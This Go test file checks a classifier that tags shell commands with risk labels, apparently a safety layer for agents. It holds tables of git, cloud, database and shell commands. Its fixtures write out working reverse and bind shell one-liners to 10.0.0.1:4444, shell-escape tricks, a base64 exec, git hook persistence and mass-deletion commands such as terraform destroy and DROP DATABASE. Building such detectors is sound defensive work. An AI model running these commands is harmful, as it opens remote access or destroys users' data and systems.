package facts

import (
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// what is a short form of facts, for tables: acts by kind, paths as access:class,
// flows as from>to, connections as net:direction:class.
func what(f *Facts) []string {
	var out []string
	for k := range f.Keys {
		kind, rest, _ := strings.Cut(k, ":")
		switch kind {
		case "act", "flow":
			out = append(out, rest)
		case "path":
			if strings.Contains(rest, ":") {
				out = append(out, rest)
			}
		case "net":
			if strings.Contains(rest, ":") {
				out = append(out, k)
			}
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}

var testContext = Context{Dir: "/home/test/work/shop", Home: "/home/test", Project: "/home/test/work/shop"}

// each tests lines of the form: fact, fact ← command. The facts must be there; a
// fact with a leading ! must not.
func each(t *testing.T, table string) {
	t.Helper()
	for line := range strings.Lines(table) {
		want, command, ok := strings.Cut(strings.TrimSpace(line), " ← ")
		if !ok {
			continue
		}
		command = strings.ReplaceAll(command, `⏎`, "\n")
		got := what(FromCommand(command, testContext))
		for w := range strings.FieldsSeq(want) {
			if no, ok := strings.CutPrefix(w, "!"); ok {
				if fam, ok := strings.CutSuffix(no, ".*"); ok {
					assert.False(t, slices.ContainsFunc(got, func(g string) bool { return strings.HasPrefix(g, fam+".") }), "%s\n has %v", command, got)
					continue
				}
				assert.NotContains(t, got, no, command)
			} else {
				assert.Contains(t, got, w, command)
			}
		}
	}
}

func TestGit(t *testing.T) {
	each(t, `
git.discard ← git reset --hard
git.discard ← git reset --har HEAD~3
git.discard ← git -C /x reset --merge
git.discard ← git checkout -- .
git.discard ← git checkout HEAD~2 src/a.go
git.discard ← git restore src/
git.discard_file !git.discard ← git restore src/a.go
git.discard_file ← git checkout -- src/a.go
git.discard_file ← git checkout HEAD -- go.sum
git.discard ← git checkout HEAD -- .
git.discard ← git checkout -- '*.go'
git.discard_file ← git clean -fdx build/
git.discard_file ← git rm -rf old
git.discard ← git clean -xfd
git.discard ← git stash clear
git.discard_file !git.discard ← git branch -D topic
git.discard ← git branch -D main
git.discard ← git branch -f topic HEAD~3
git.discard ← git worktree remove --force ../wt
git.discard ← git reflog expire --expire=now --all
git.discard ← git update-index --refresh; git gc --aggressive --prune=now
git.discard_file ← git tag -d v1
git.force_push ← git push -f origin topic
git.force_push ← git push origin +topic
git.delete_remote ← git push origin --delete topic
git.delete_remote ← git push origin :topic
git.rewrite ← git filter-branch --tree-filter 'rm x' HEAD
git.rewrite ← git push --mirror
git.push_default ← git push origin HEAD:main
!git.* ← git reset HEAD~1
!git.* ← git reset --soft HEAD~1
!git.* ← git checkout -b topic
!git.* ← git checkout main
!git.* ← git restore --staged .
!git.* ← git clean -nd
!git.* ← git stash
!git.* ← git stash pop
!git.* ← git branch -d topic
!git.* ← git push --force-with-lease origin topic
!git.* ← git push -u origin topic
!git.* ← git push -n -f origin topic
!git.* ← git commit -m "git reset --hard and rm -rf / are bad"
!git.* ← git log --grep 'reset --hard'
!git.* ← git rebase -i HEAD~3
!git.* ← git switch -c x
git.tamper ← echo 0 > .git/refs/heads/main
persist.git_hook ← printf '#!/bin/sh\n' > .git/hooks/pre-push
code.load ← git -c core.sshCommand='sh -c id' fetch
`)
}

func TestInfrastructure(t *testing.T) {
	each(t, `
infra.delete ← aws s3 rm s3://bucket --recursive
infra.delete ← aws s3 rb s3://bucket --force
infra.delete ← aws ec2 terminate-instances --instance-ids i-1
infra.delete ← aws rds delete-db-instance --db-instance-identifier x
infra.delete ← aws dynamodb delete-table --table-name t
infra.delete ← aws kms schedule-key-deletion --key-id k
infra.delete ← aws cloudformation delete-stack --stack-name s
infra.delete ← gcloud projects delete p
infra.delete ← gcloud compute instances delete vm --zone z
infra.delete ← gcloud sql instances delete db
infra.delete ← az group delete --name rg --yes
infra.delete ← az vm delete -n vm -g rg
infra.delete ← az keyvault purge -n kv
infra.delete ← kubectl delete namespace prod
infra.delete ← kubectl -n prod delete deploy/api
infra.delete ← kubectl --context=prod delete pvc --all
infra.delete ← kustomize build . | kubectl delete -f -
infra.stop ← kubectl drain node-1 --ignore-daemonsets
infra.stop ← kubectl scale deploy/api --replicas=0
infra.delete ← helm uninstall api
infra.delete ← helm -n prod delete api
infra.delete ← terraform destroy -auto-approve
infra.delete ← terraform apply -destroy
infra.delete ← terraform state rm aws_instance.x
infra.delete ← tofu destroy
infra.delete ← pulumi destroy --yes
infra.delete ← pulumi stack rm dev
infra.apply ← terraform apply -auto-approve
infra.delete ← docker system prune -af --volumes
infra.delete ← docker volume rm data
!infra.* ← docker compose down -v
infra.delete ← docker compose -f compose.prod.yml down -v
!infra.* ← docker rm -f web-test
infra.delete ← docker rm -fv web
infra.delete ← docker rm -f $(docker ps -aq)
!infra.* ← docker image prune -f
infra.delete ← docker system prune -af
!infra.* ← kind delete cluster
!infra.* ← AWS_ENDPOINT_URL=http://localhost:4566 aws s3 rb s3://b --force
!infra.* ← kubectl delete pod api-1 -n dev
infra.delete ← kubectl delete pods --all -n dev
!http.delete ← curl -X DELETE http://localhost:3000/api/items/1
http.delete ← curl -X DELETE http://localhost:9200/items
!infra.* ← docker-compose down --volumes
infra.delete ← podman system prune -a
infra.delete ← heroku apps:destroy --app x
infra.delete ← vercel remove shop --yes
infra.delete ← netlify sites:delete x
infra.delete ← fly apps destroy x
infra.delete ← gh repo delete o/r --yes
infra.delete ← gh release delete v1
http.delete ← gh api -X DELETE repos/o/r
infra.delete ← glab repo delete o/r
infra.delete ← doctl compute droplet delete 1
infra.delete ← cloudflared tunnel delete x; flarectl dns delete --zone x
infra.delete ← wrangler r2 bucket delete b
infra.delete ← firebase projects:delete x; firebase firestore:delete --all-collections
infra.delete ← rabbitmqctl force_reset
infra.delete ← kafka-topics.sh --bootstrap-server b --delete --topic t
infra.delete ← nats stream purge ORDERS
infra.delete ← consul kv delete -recurse x
infra.delete ← vault kv destroy -versions=1 secret/x
infra.delete ← vault secrets disable kv
infra.delete ← doppler projects delete x
infra.delete ← sentry-cli releases delete x
infra.delete ← stripe customers delete cus_1
infra.delete ← gitlab-runner unregister --all-runners
infra.delete ← circleci namespace delete x
backup.delete ← restic -r r forget --prune
backup.delete ← borg delete repo::a
backup.delete ← velero backup delete x
infra.delete ← mc rm --recursive --force m/b
infra.delete ← gsutil -m rm -r gs://b
infra.delete ← rclone purge r:b
infra.delete ← az storage container delete -n c
infra.stop ← nginx -s stop
system.service_stop ← systemctl stop nginx
system.service_stop ← sudo systemctl disable --now postgresql
!infra.* ← docker stop web
infra.stop ← docker stop traefik
infra.delete ← ansible all -m file -a 'path=/x state=absent'
infra.delete ← linode-cli linodes delete 1
infra.delete ← eksctl delete cluster x
infra.delete ← argocd app delete x
infra.delete ← launchdarkly flags delete x
infra.delete ← datadog-ci synthetics delete 1
infra.delete ← pd schedule delete P1
infra.delete ← newrelic entity tags delete --guid x
local.remove !infra.remove ← acmectl instance destroy i-1
infra.remove ← acmectl instance destroy i-1 --force
http.delete ← curl -X DELETE https://api.example.com/x
http.delete ← curl -XDELETE localhost:9200/idx
http.delete ← http DELETE :9200/idx
http.delete ← xh delete :9200/idx
http.delete ← wget --method=DELETE https://api.example.com/x
http.admin ← curl -X POST localhost:9200/idx/_delete_by_query -d '{}'
supply.publish ← npm publish
supply.publish ← npm unpublish x --force
supply.publish ← cargo yank --version 1.0.0
supply.publish ← twine upload dist/*
!infra.* ← aws s3 ls
!infra.* ← aws ec2 describe-instances
!infra.* ← gcloud compute instances list
!infra.* ← az vm list
!infra.* ← kubectl get pods
!infra.* ← kubectl describe pod delete-me
!infra.* ← kubectl logs deploy/api
!infra.* ← kubectl delete pod x --dry-run=client
!infra.* ← helm list
!infra.* ← helm template . --debug
!infra.* ← terraform plan
!infra.* ← terraform plan -destroy
!infra.* ← terraform init
!infra.* ← docker ps -a
!infra.* ← docker build -t x .
!infra.* ← docker run --rm x
!infra.* ← docker compose up -d
!infra.* ← docker compose down
!infra.* ← docker logs -f x
!infra.* ← gh pr view 12
!infra.* ← gh pr create --title "delete old code" --body "remove"
!infra.* ← gh issue list --search "delete"
!infra.* ← gh run list
!infra.* ← vault status
!infra.* ← restic snapshots
!infra.* ← npm uninstall lodash
!infra.* ← pip uninstall -y x
!infra.* ← cargo remove serde
!infra.* ← apt remove x
!infra.* ← bd delete x-1
!infra.* ← make clean
!infra.* ← ./scripts/cleanup.sh delete
!infra.* ← aws s3 sync ./dist s3://b/releases
`)
}

func TestDatabases(t *testing.T) {
	each(t, `
db.destroy ← psql -c 'DROP TABLE users'
db.destroy ← psql -d x -h h -c "truncate table a, b"
db.destroy ← mysql -u root -e 'drop database shop'
db.destroy ← mysql shop -e 'DELETE FROM users'
db.destroy ← echo 'DROP TABLE x;' | psql
db.destroy ← psql <<EOF⏎begin;⏎drop schema public cascade;⏎EOF
db.destroy ← sqlite3 db.sqlite 'drop table t'
db.destroy ← redis-cli FLUSHALL
db.destroy ← redis-cli -h h flushdb async
db.destroy ← mongosh --eval 'db.dropDatabase()'
db.destroy ← mongo shop --eval 'db.users.drop()'
db.destroy ← mongosh shop --eval "db.users.deleteMany({})"
db.destroy ← dropdb shop
db.destroy ← mongorestore --drop dump/
db.destroy ← pg_restore --clean -d x dump
db.destroy ← RAILS_ENV=production rails db:drop
db.reset !db.destroy ← rails db:drop
db.reset ← bundle exec rake db:reset
db.reset ← php artisan migrate:fresh
db.destroy ← php artisan migrate:fresh --env=production
db.reset !infra.delete ← npx prisma migrate reset --force
db.destroy ← DATABASE_URL=postgres://u@db.shop.example/shop npx prisma migrate reset --force
db.reset ← export DATABASE_URL=postgres://localhost/shop; npx prisma migrate reset
db.reset !db.destroy ← mix ecto.reset
db.destroy ← MIX_ENV=prod mix ecto.drop
db.reset !db.destroy ← dropdb --if-exists shop_test
db.reset ← psql shop_test -c 'drop table t'
db.destroy ← psql -h db.shop.example shop_test -c 'drop table t'
db.reset ← mongosh mongodb://localhost/shop_test --eval 'db.dropDatabase()'
db.destroy ← mongosh mongodb://db.shop.example/shop_test --eval 'db.dropDatabase()'
db.reset ← python manage.py flush --noinput
db.destroy ← DROP DATABASE shop;
db.destroy ← TRUNCATE orders
db.destroy ← ALTER TABLE users DROP COLUMN email;
db.grant ← GRANT ALL PRIVILEGES ON *.* TO 'a'@'%';
!db.* ← psql -c 'select * from users'
!db.* ← psql -c "delete from users where id = 3"
!db.* ← sqlite3 db.sqlite .tables
!db.* ← redis-cli get x
!db.* ← mongosh --eval 'db.users.find()'
!db.* ← rails db:migrate
!db.* ← echo 'DROP TABLE users;'
!db.* ← grep -r 'DROP TABLE' db/
!db.* ← DELETE FROM users WHERE id = 3;
!db.* ← cat <<EOF > m.sql⏎DROP TABLE x;⏎EOF
`)
}

func TestShells(t *testing.T) {
	each(t, `
shell.spawn ← vi -c ':!/bin/sh'
shell.spawn ← awk 'BEGIN {system("/bin/sh")}'
shell.spawn ← find . -exec /bin/sh \; -quit
shell.spawn ← env /bin/sh
shell.spawn ← nice /bin/bash
shell.spawn ← less -c '!/bin/sh' /etc/hosts
shell.spawn ← tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh
shell.spawn ← python3 -c 'import os; os.system("/bin/sh")'
shell.spawn ← python -c 'import pty; pty.spawn("/bin/bash")'
shell.spawn ← perl -e 'exec "/bin/sh";'
shell.spawn ← ruby -e 'exec "/bin/sh"'
shell.spawn ← node -e 'require("child_process").spawn("/bin/sh", {stdio: [0, 1, 2]})'
shell.spawn ← php -r 'system("/bin/sh -i");'
shell.spawn ← gdb -nx -ex '!sh' -ex quit
shell.spawn ← ssh -o ProxyCommand=';sh 0<&2 1>&2' x
shell.spawn ← rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null
shell.spawn ← zip x.zip /etc/hosts -T -TT '/bin/sh #'
shell.spawn ← git -p help config; git -c core.pager='/bin/sh -c "exec sh"' log
shell.spawn ← sed '1e exec sh 1>&0' /etc/hosts
shell.spawn ← ed <<EOF⏎!/bin/sh⏎EOF
shell.spawn ← mysql -e '\! /bin/sh'
shell.spawn ← sqlite3 /dev/null '.shell /bin/sh'
shell.spawn ← psql -c '\! /bin/sh'
shell.spawn ← man -P '/bin/sh' man
shell.spawn ← PAGER='/bin/sh -c "exec sh 0<&1"' man ls
shell.spawn ← nmap --script=<(echo 'os.execute("/bin/sh")')
shell.spawn ← taskset 1 /bin/sh
shell.spawn ← strace -o /dev/null /bin/sh
shell.spawn ← expect -c 'spawn /bin/sh;interact'
shell.spawn ← make -s --eval=$'x:\n\t-/bin/sh'
shell.spawn ← ftp⏎!/bin/sh
shell.spawn ← pip install --user /x; npm exec /bin/sh
shell.spawn ← tclsh⏎exec /bin/sh <@stdin >@stdout 2>@stderr
shell.spawn ← capsh --
shell.spawn ← openvpn --dev null --script-security 2 --up '/bin/sh -c sh'
shell.spawn ← screen -x; vim -c ':lua os.execute("reset; exec sh")'
shell.spawn ← wget --use-askpass=/bin/sh x
shell.spawn ← docker run -it x; php -r 'pcntl_exec("/bin/sh", ["-p"]);'
!shell.* ← bash script.sh
!shell.* ← sh -c 'echo hi'
!shell.* ← bash -lc 'go test ./...'
!shell.* ← docker exec -it web bash
!shell.* ← docker run --rm -it --entrypoint /bin/sh x
!shell.* ← kubectl exec -it pod -- /bin/sh
!shell.* ← which bash
!shell.* ← ls -la /bin/sh
!shell.* ← chsh -s /bin/zsh
!shell.* ← head -1 x.sh | grep '#!/bin/bash'
!shell.* ← cat > x.sh <<EOF⏎#!/bin/sh⏎echo hi⏎EOF
!shell.* ← echo '#!/bin/sh' > run.sh
!shell.* ← printf '#!/bin/bash\nset -e\n' > run.sh && chmod +x run.sh && ./run.sh
!shell.* ← git commit -m "use /bin/sh in scripts"
!shell.* ← sed -i 's|#!/bin/sh|#!/usr/bin/env bash|' x.sh
!shell.* ← SHELL=/bin/bash make
!shell.* ← make SHELL=/bin/bash test
!shell.* ← bash <<EOF⏎echo hi⏎EOF
!shell.* ← timeout 10 bash run.sh
!shell.* ← find . -name '*.sh' -exec bash -n {} \;
!shell.* ← ssh host 'bash -s' < x.sh
!shell.* ← xvfb-run bash -c 'npm test'
!shell.* ← grep -rn '/bin/sh' .
shell.reverse ← bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
shell.reverse ← nc -e /bin/sh 10.0.0.1 4444
shell.reverse ← rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f
shell.reverse ← python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
shell.reverse ← php -r '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
shell.reverse ← ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
shell.reverse ← socat TCP:10.0.0.1:4444 EXEC:/bin/sh,pty,stderr
shell.bind ← nc -lvp 4444 -e /bin/bash
shell.bind ← socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh
code.dynamic ← python3 -c "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"
`)
}
